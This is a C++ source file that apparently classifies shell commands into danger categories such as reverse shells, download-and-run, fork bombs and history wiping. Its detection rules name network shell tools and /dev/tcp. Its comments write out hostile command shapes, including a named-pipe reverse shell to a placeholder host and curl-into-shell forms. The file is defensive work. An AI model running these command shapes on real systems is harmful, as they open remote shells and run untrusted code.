#include <algorithm>

#include "policy/shell/judge.hpp"

namespace durward::shell {
namespace {

using enum Category;

struct Row {
  Category category;
  std::string_view name;
  bool everyday;
};

// In the order of the enumeration.
constexpr std::array<Row, kCategories> kRows{{{recursive_delete, "recursive_delete", true},
                                              {mass_delete, "mass_delete", false},
                                              {disk_erase, "disk_erase", false},
                                              {privilege, "privilege", true},
                                              {privilege_grant, "privilege_grant", false},
                                              {download_run, "download_run", false},
                                              {fork_bomb, "fork_bomb", false},
                                              {history_wipe, "history_wipe", false},
                                              {reverse_shell, "reverse_shell", false},
                                              {credentials, "credentials", false},
                                              {persistence, "persistence", false},
                                              {defence_off, "defence_off", false},
                                              {system_stop, "system_stop", false},
                                              {discard_work, "discard_work", false},
                                              {infra_destroy, "infra_destroy", true},
                                              {system_write, "system_write", true}}};

constexpr bool in_order() {
  for (std::size_t i = 0; i < kRows.size(); ++i) {
    if (static_cast<std::size_t>(kRows[i].category) != i) return false;
  }
  return true;
}
static_assert(in_order(), "the table is read by the number of a category");

/// Reads a text and those that shells within it would read.
class Reader {
 public:
  explicit Reader(Reading& out) : out_(out) {}

  void text(std::string_view text, int depth) {
    budget_ -= std::min(budget_, text.size() + 64);
    if (depth > kDeepest || budget_ == 0) {
      out_.clear = false;
      return;
    }
    const Script script = parse(text, depth);
    out_.clear = out_.clear && script.whole;
    std::vector<Started> started;
    for (const Command& command : script.commands) started.push_back(started_by(command.words));
    for (std::size_t i = 0; i < script.commands.size(); ++i) one(script, started, i, depth);
    bombs(script);
  }

 private:
  void one(const Script& script, const std::vector<Started>& started, std::size_t i, int depth) {
    const Command& command = script.commands[i];
    if (!command.words.empty() && command.words.front().dynamic) out_.clear = false;
    for (const Argv& argv : started[i].programs) program(argv, depth);
    for (const std::string& inner : started[i].texts) text(inner, depth + 1);
    runs_input(script, started, i, depth);
    runs_substitution(script, started, i);
    redirects(command, started[i]);
    for (const auto& [name, value] : command.assigned) {
      if (name == "HISTFILE" && (value.text == "/dev/null" || value.text.empty())) out_.found.add(history_wipe);
      if (name == "HISTSIZE" && value.text == "0") out_.found.add(history_wipe);
    }
  }

  void program(const Argv& argv, int depth) {
    const std::string name = argv.program();
    if (std::find(out_.programs.begin(), out_.programs.end(), name) == out_.programs.end()) out_.programs.push_back(name);
    out_.found.add(judge(argv));
    const std::string code = code_of(argv);
    if (code.empty()) return;
    out_.found.add(judge_code(code));
    for (const std::string& inner : commands_in(code)) text(inner, depth + 1);
  }

  /// What an interpreter or shell reads from a pipe or here-document.
  void runs_input(const Script& script, const std::vector<Started>& started, std::size_t i, int depth) {
    const Argv* last = started[i].programs.empty() ? nullptr : &started[i].programs.back();
    if (last == nullptr) return;
    const std::string name = last->program();
    const bool runs = (is_shell(name) && started[i].texts.empty()) || (is_interpreter(name) && last->plains().empty()) ||
                      name == "source" || name == ".";
    if (!runs) return;
    for (const Redirect& redirect : script.commands[i].redirects) {
      if (redirect.body.empty()) continue;
      if (is_interpreter(name)) {
        out_.found.add(judge_code(redirect.body));
        for (const std::string& inner : commands_in(redirect.body)) text(inner, depth + 1);
      } else {
        text(redirect.body, depth + 1);
      }
    }
    int from = script.commands[i].from;
    for (int steps = 0; from >= 0 && steps < 16; ++steps) {
      const auto source = static_cast<std::size_t>(from);
      for (const Argv& argv : started[source].programs) {
        const std::string program = argv.program();
        if (fetches(argv) || decodes(argv)) out_.found.add(download_run);
        if (program == "echo" || program == "printf") printed(argv, depth);
        if (program == "cat" || program == "tee") {
          for (const Redirect& redirect : script.commands[source].redirects) text(redirect.body, depth + 1);
        }
      }
      from = script.commands[source].from;
    }
  }

  void printed(const Argv& argv, int depth) {
    std::string all;
    for (std::size_t at = 1; at < argv.words.size(); ++at) all += argv.words[at].text + " ";
    text(all, depth + 1);
  }

  /// sh -c "$(curl …)", bash <(curl …), eval "$(… | base64 -d)", $(curl …)
  void runs_substitution(const Script& script, const std::vector<Started>& started, std::size_t i) {
    const Command& command = script.commands[i];
    if (command.inside.empty() || started[i].programs.empty()) return;
    const std::string name = started[i].programs.back().program();
    const bool first = !command.words.empty() && command.words.front().dynamic;
    const bool runs = is_shell(name) || name == "eval" || name == "source" || name == "." ||
                      (is_interpreter(name) && name.find("awk") == std::string::npos) || first;
    if (!runs) return;
    for (const std::size_t inner : command.inside) {
      for (const Argv& argv : started[inner].programs) {
        if (fetches(argv) || decodes(argv)) out_.found.add(download_run);
      }
    }
  }

  void redirects(const Command& command, const Started& started) {
    bool network = false;
    for (const Redirect& redirect : command.redirects) {
      const std::string& target = redirect.target.text;
      network = network || target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
      if (redirect.op.find('>') != std::string::npos) out_.found.add(judge_write(target));
      if (redirect.op == "<") out_.found.add(judge_read(target));
    }
    if (!network) return;
    const bool runs = std::any_of(started.programs.begin(), started.programs.end(), [](const Argv& argv) {
      return is_shell(argv.program()) || argv.program() == "exec" || argv.program() == "cat";
    });
    if (runs || command.words.empty()) out_.found.add(reverse_shell);
  }

  void bombs(const Script& script) {
    for (const std::string& name : script.functions) {
      for (const Command& command : script.commands) {
        const bool self = !command.words.empty() && command.words.front().text == name && command.from >= 0;
        if (!self) continue;
        const auto& source = script.commands[static_cast<std::size_t>(command.from)].words;
        if (!source.empty() && source.front().text == name) out_.found.add(fork_bomb);
      }
    }
  }

  Reading& out_;
  std::size_t budget_ = 8 * kLongest;  // bytes of all texts within texts
};

/// Pipes into a shell and out of it again: `mkfifo f; cat f | sh | nc host > f`.
void backpipe(std::string_view text, Reading& out) {
  const auto has = [&out](std::string_view program) {
    return std::find(out.programs.begin(), out.programs.end(), program) != out.programs.end();
  };
  const bool pipe = has("mkfifo") || has("mknod");
  const bool network = has("nc") || has("ncat") || has("netcat") || has("telnet") || has("openssl") || has("socat") ||
                       text.find("/dev/tcp/") != std::string_view::npos;
  const bool shell =
      std::any_of(out.programs.begin(), out.programs.end(), [](const std::string& one) { return is_shell(one); });
  if (pipe && network && shell) out.found.add(reverse_shell);
  const bool two_way = has("telnet") && shell;
  if (two_way) out.found.add(reverse_shell);
}

}  // namespace

std::string_view name(Category category) noexcept { return kRows[static_cast<std::size_t>(category)].name; }

std::optional<Category> category_of(std::string_view text) noexcept {
  const auto* found = std::find_if(kRows.begin(), kRows.end(), [text](const Row& one) { return one.name == text; });
  if (found == kRows.end()) return std::nullopt;
  return found->category;
}

bool everyday(Category category) noexcept { return kRows[static_cast<std::size_t>(category)].everyday; }

Found Found::dangerous() {
  Found out;
  for (const Row& one : kRows) {
    if (!one.everyday) out.add(one.category);
  }
  return out;
}

Reading read(std::string_view text) {
  Reading out;
  if (text.size() > kLongest) {
    out.clear = false;
    return out;
  }
  Reader reader(out);
  reader.text(text, 0);
  backpipe(text, out);
  // A text that is no shell at all may be a program of its own.
  out.found.add(judge_code(text));
  for (const std::string_view call : {"exec(", "system(", "spawn(", "popen(", "execSync(", "check_output(", "subprocess."}) {
    if (text.find(call) == std::string_view::npos) continue;
    for (const std::string& inner : commands_in(text)) reader.text(inner, 1);
    break;
  }
  return out;
}

}  // namespace durward::shell
